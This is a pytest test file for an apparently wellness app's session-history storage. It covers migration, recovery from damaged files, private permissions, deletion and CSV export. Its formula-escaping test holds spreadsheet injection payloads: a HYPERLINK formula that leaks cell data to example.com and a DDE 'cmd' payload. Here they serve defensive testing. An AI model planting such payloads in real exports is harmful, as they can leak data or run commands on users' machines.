"""Session history: kept across restarts, migrated, never lost to damage, private, exportable and deletable."""

from __future__ import annotations

import csv
import sqlite3
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from app.storage.history import History, SessionRecord
from app.storage.history_schema import MIGRATIONS, SCHEMA_VERSION
from tests.conftest import ROOT

EVENING = datetime(2026, 11, 25, 21, 30, tzinfo=UTC)


def history_path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "steady" / "history.sqlite3"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def damaged_copies(path: Path) -> list[Path]:
    return sorted(path.parent.glob(f"{path.name}.damaged-*"))


def add_box(history: History, minutes_later: int = 0, **overrides: object) -> int:
    values: dict[str, object] = {
        "exercise_id": "box-breathing",
        "exercise_title": "Box breathing",
        "started_at": EVENING + timedelta(minutes=minutes_later),
        "planned_seconds": 240.0,
        "seconds": 240.0,
        "outcome": "finished",
        "rating_before": 7,
        "rating_after": 5,
    }
    values.update(overrides)
    return history.add(**values)  # type: ignore[arg-type]


def test_ratings_are_still_there_after_closing_and_reopening(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    with History(path) as history:
        first = add_box(history, rating_before=8, rating_after=None)
        history.set_rating_after(first, 4)
        add_box(history, 10, exercise_id="5-4-3-2-1", exercise_title="5-4-3-2-1", outcome="stopped", seconds=61.5)

    with History(path) as reopened:
        assert reopened.take_problem() == ""
        newest, oldest = reopened.sessions()
    assert (oldest.id, oldest.rating_before, oldest.rating_after, oldest.change) == (first, 8, 4, -4)
    assert oldest.started_at == EVENING
    assert newest == SessionRecord(
        id=newest.id,
        exercise_id="5-4-3-2-1",
        exercise_title="5-4-3-2-1",
        started_at=EVENING + timedelta(minutes=10),
        planned_seconds=240.0,
        seconds=61.5,
        outcome="stopped",
        rating_before=7,
        rating_after=5,
    )


def test_a_skipped_rating_has_no_change() -> None:
    record = SessionRecord(1, "box", "Box", EVENING, 60.0, 60.0, "finished", None, 3)
    assert record.change is None


def test_sessions_come_newest_first_by_the_real_moment_whatever_the_time_zone(tmp_path: Path) -> None:
    with History(history_path(tmp_path)) as history:
        tokyo = timezone(timedelta(hours=9))
        early = add_box(history, started_at=datetime(2026, 11, 26, 5, 0, tzinfo=tokyo))  # 20:00 UTC the day before
        late = add_box(history)  # 21:30 UTC
        assert [record.id for record in history.sessions()] == [late, early]
        assert [record.id for record in history.sessions(limit=1)] == [late]
        assert history.sessions()[1].started_at.utcoffset() == timedelta(hours=9)


def write_v1(path: Path) -> None:
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    db.execute(
        "CREATE TABLE sessions (id INTEGER PRIMARY KEY, exercise_id TEXT NOT NULL, started_at TEXT NOT NULL,"
        " seconds REAL NOT NULL, finished INTEGER NOT NULL, rating_before INTEGER, rating_after INTEGER)"
    )
    db.executemany(
        "INSERT INTO sessions VALUES (?, ?, ?, ?, ?, ?, ?)",
        [
            (3, "box-breathing", "2026-11-20T21:00:00+01:00", 240.0, 1, 8, 5),
            (7, "cold-water", "2026-11-21T08:15:00+01:00", 30.0, 0, None, None),
        ],
    )
    db.execute("PRAGMA user_version = 1")
    db.commit()
    db.close()


def test_a_version_1_history_is_updated_and_keeps_every_session(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    write_v1(path)

    with History(path) as history:
        assert history.take_problem() == ""
        stopped, finished = history.sessions()

    assert finished == SessionRecord(
        id=3,
        exercise_id="box-breathing",
        exercise_title="box-breathing",
        started_at=datetime.fromisoformat("2026-11-20T21:00:00+01:00"),
        planned_seconds=240.0,
        seconds=240.0,
        outcome="finished",
        rating_before=8,
        rating_after=5,
    )
    assert (stopped.id, stopped.exercise_title, stopped.outcome, stopped.planned_seconds) == (
        7,
        "cold-water",
        "stopped",
        30.0,
    )
    assert (stopped.rating_before, stopped.rating_after, stopped.change) == (None, None, None)
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 2
    db.close()
    assert damaged_copies(path) == []


def test_each_schema_version_has_exactly_one_migration() -> None:
    assert len(MIGRATIONS) == SCHEMA_VERSION


def write_garbage(path: Path) -> None:
    path.parent.mkdir(parents=True)
    path.write_bytes(b"\x00\xffThis is not a database at all.\n" * 300)


def write_truncated(path: Path) -> None:
    with History(path) as history:
        for n in range(200):
            add_box(history, n, exercise_title=f"Box breathing, evening {n} " + "·" * 40)
    size = path.stat().st_size
    assert size > 4 * 4096, "big enough that half of it is a real cut through the sessions"
    with path.open("r+b") as handle:
        handle.truncate(size // 2)


@pytest.mark.parametrize("damage", [write_garbage, write_truncated], ids=["garbage", "truncated"])
def test_a_damaged_history_is_kept_aside_and_a_fresh_one_works(tmp_path: Path, damage) -> None:
    path = history_path(tmp_path)
    damage(path)
    original = path.read_bytes()

    with History(path) as history:
        problem = history.take_problem()
        assert history.take_problem() == "", "the person is told once"
        (kept,) = damaged_copies(path)
        assert kept.read_bytes() == original
        assert str(path) in problem and kept.name in problem
        assert "could not be read" in problem and "new one was started" in problem
        new_id = add_box(history)
        assert [record.id for record in history.sessions()] == [new_id]

    with History(path) as reopened:
        assert reopened.take_problem() == ""
        assert len(reopened.sessions()) == 1


def test_a_history_that_is_not_laid_out_like_steadys_is_kept_aside(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE sessions (id INTEGER PRIMARY KEY, note TEXT)")
    db.execute("INSERT INTO sessions (note) VALUES ('mine')")
    db.execute("PRAGMA user_version = 1")
    db.commit()
    db.close()
    original = path.read_bytes()

    with History(path) as history:
        problem = history.take_problem()
        (kept,) = damaged_copies(path)
        assert kept.read_bytes() == original, "a failed update is rolled back, never half done"
        assert kept.name in problem
        assert history.sessions() == []


def test_an_empty_file_simply_becomes_a_new_history(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    path.parent.mkdir(parents=True)
    path.touch()
    with History(path) as history:
        add_box(history)
        assert history.take_problem() == ""
    assert damaged_copies(path) == []


def test_a_history_from_a_newer_steady_is_kept_untouched(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE sessions (id INTEGER PRIMARY KEY, mood_curve BLOB)")
    db.execute("INSERT INTO sessions (mood_curve) VALUES (x'0102')")
    db.execute("PRAGMA user_version = 99")
    db.commit()
    db.close()
    original = path.read_bytes()

    with History(path) as history:
        problem = history.take_problem()
        (kept,) = damaged_copies(path)
        assert kept.read_bytes() == original
        assert "newer version of Steady" in problem and kept.name in problem
        add_box(history)
        assert len(history.sessions()) == 1
    db = sqlite3.connect(kept)
    assert db.execute("PRAGMA user_version").fetchone()[0] == 99
    db.close()


def test_csv_export_matches_the_history_exactly_and_is_private(tmp_path: Path) -> None:
    with History(history_path(tmp_path)) as history:
        add_box(history, 0, rating_before=None, rating_after=None)
        add_box(history, 5, exercise_title='Grounding, "5-4-3-2-1" – café', outcome="stopped", seconds=12.25)
        add_box(history, 9, rating_before=10, rating_after=0)
        target = tmp_path / "export.csv"
        assert history.export_csv(target) == 3
        expected = list(reversed(history.sessions()))

    assert mode(target) == 0o600
    with target.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
    assert reader.fieldnames == [
        "started_at",
        "exercise_id",
        "exercise_title",
        "planned_seconds",
        "seconds",
        "outcome",
        "rating_before",
        "rating_after",
    ]
    assert rows == [
        {
            "started_at": record.started_at.isoformat(),
            "exercise_id": record.exercise_id,
            "exercise_title": record.exercise_title,
            "planned_seconds": str(record.planned_seconds),
            "seconds": str(record.seconds),
            "outcome": record.outcome,
            "rating_before": "" if record.rating_before is None else str(record.rating_before),
            "rating_after": "" if record.rating_after is None else str(record.rating_after),
        }
        for record in expected
    ]
    assert rows[0]["started_at"] == "2026-11-25T21:30:00+00:00"
    assert rows[0]["rating_before"] == rows[0]["rating_after"] == ""
    assert rows[1]["exercise_title"] == 'Grounding, "5-4-3-2-1" – café'
    assert float(rows[1]["seconds"]) == 12.25


def test_csv_export_keeps_a_title_that_looks_like_a_formula_as_text(tmp_path: Path) -> None:
    """A plan's title comes from whoever wrote the plan: a spreadsheet must show it, never run it (OWASP)."""
    titles = [
        '=HYPERLINK("https://example.com/?leak="&A1,"Click for help")',
        "+1 and a calm breath",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
        "Calm pace = 4 in, 6 out",
        "Box – 4 + 4",
    ]
    with History(history_path(tmp_path)) as history:
        for n, title in enumerate(titles):
            add_box(history, n, exercise_id="=cmd|' /C calc'!A0" if n == 0 else f"plan-{n}", exercise_title=title)
        add_box(history, 20, rating_before=0, rating_after=10)
        target = tmp_path / "export.csv"
        history.export_csv(target)

    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["exercise_title"] for row in rows] == [
        '\'=HYPERLINK("https://example.com/?leak="&A1,"Click for help")',
        "'+1 and a calm breath",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTabbed",
        "'\rReturned",
        "Calm pace = 4 in, 6 out",  # only the first character makes a formula
        "Box – 4 + 4",
        "Box breathing",
    ]
    assert rows[0]["exercise_id"] == "'=cmd|' /C calc'!A0" and rows[1]["exercise_id"] == "plan-1"
    assert (rows[-1]["rating_before"], rows[-1]["rating_after"], rows[-1]["seconds"]) == ("0", "10", "240.0")
    assert all(not row["started_at"].startswith("'") for row in rows)  # numbers and times stay numbers and times


def test_delete_file_removes_the_history_and_every_kept_copy(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    write_garbage(path)
    with History(path) as history:
        add_box(history)
    (path.parent / "memories.json").write_text("{}")  # the person's other files stay
    history = History(path)
    history.open()
    add_box(history)

    removed = history.delete_file()

    assert path in removed and len(damaged_copies(path)) == 0
    assert len(removed) == 2
    assert sorted(p.name for p in path.parent.iterdir()) == ["memories.json"]
    assert not [p for p in path.parent.iterdir() if p.name.startswith("history")]
    assert history.sessions() == [], "a new, empty history starts if Steady goes on"
    history.close()


def test_the_history_file_and_its_folder_are_user_only(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    with History(path) as history:
        add_box(history)
    assert mode(path) == 0o600
    assert mode(path.parent) == 0o700

    path.chmod(0o644)
    path.parent.chmod(0o755)
    with History(path) as history:
        history.open()
    assert mode(path) == 0o600
    assert mode(path.parent) == 0o700


def test_an_unusable_data_folder_keeps_history_in_memory_and_says_so(tmp_path: Path) -> None:
    in_the_way = tmp_path / "afile"
    in_the_way.write_text("not a folder")
    with History(in_the_way / "history.sqlite3") as history:
        session = add_box(history)
        history.set_rating_after(session, 2)
        assert [(r.id, r.rating_after) for r in history.sessions()] == [(session, 2)]
        assert history.in_memory
        problem = history.take_problem()
        assert "can't be saved" in problem and str(in_the_way) in problem
        assert history.take_problem() == ""
    assert in_the_way.read_text() == "not a folder"


def test_a_folder_that_goes_away_while_open_keeps_earlier_sessions_and_says_so(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    with History(path) as history:
        first = add_box(history)
        assert history.take_problem() == ""
        for child in path.parent.iterdir():
            child.unlink()
        path.parent.rmdir()
        path.parent.write_text("a file where the folder was")

        second = add_box(history, 5)

        assert [record.id for record in history.sessions()] == [second, first]
        assert "can't be saved" in history.take_problem()


@pytest.mark.parametrize(
    "bad",
    [
        {"outcome": "abandoned"},
        {"rating_before": 11},
        {"rating_after": 11},
        {"rating_before": -1},
        {"rating_after": 4.5},
        {"rating_before": True},
        {"seconds": -3.0},
        {"planned_seconds": float("nan")},
        {"exercise_id": ""},
    ],
    ids=str,
)
def test_invalid_values_are_refused_and_nothing_is_written(tmp_path: Path, bad: dict[str, object]) -> None:
    path = history_path(tmp_path)
    with History(path) as history:
        with pytest.raises(ValueError):
            add_box(history, **bad)
        assert history.sessions() == []
        session = add_box(history)
        with pytest.raises(ValueError):
            history.set_rating_after(session, 11)
        assert history.sessions()[0].rating_after == 5
    with History(path) as reopened:
        assert len(reopened.sessions()) == 1


def test_rating_an_unknown_session_is_an_error(tmp_path: Path) -> None:
    with History(history_path(tmp_path)) as history, pytest.raises(KeyError):
        history.set_rating_after(12345, 3)


def test_a_process_killed_while_writing_never_leaves_half_a_session(tmp_path: Path) -> None:
    path = history_path(tmp_path)
    code = (
        "import sys\n"
        "from datetime import datetime, timezone\n"
        "from pathlib import Path\n"
        "from app.storage.history import History\n"
        "history = History(Path(sys.argv[1]))\n"
        "while True:\n"
        "    number = history.add('box', 'Box breathing', datetime.now(timezone.utc), 240.0, 239.5, 'finished', 7, 4)\n"
        "    print(number, flush=True)\n"
    )
    child = subprocess.Popen([sys.executable, "-c", code, str(path)], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None
    confirmed = [int(child.stdout.readline()) for _ in range(30)]
    child.kill()
    child.wait()
    child.stdout.close()

    with History(path) as history:
        assert history.take_problem() == ""
        records = history.sessions()
    assert set(confirmed) <= {record.id for record in records}
    assert all(
        (r.exercise_title, r.planned_seconds, r.seconds, r.outcome, r.rating_before, r.rating_after)
        == ("Box breathing", 240.0, 239.5, "finished", 7, 4)
        for r in records
    )


def test_history_loads_no_qt() -> None:
    code = "import sys, app.storage.history\nprint(sorted(n for n in sys.modules if n.startswith(('PySide6', 'shiboken6'))))"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
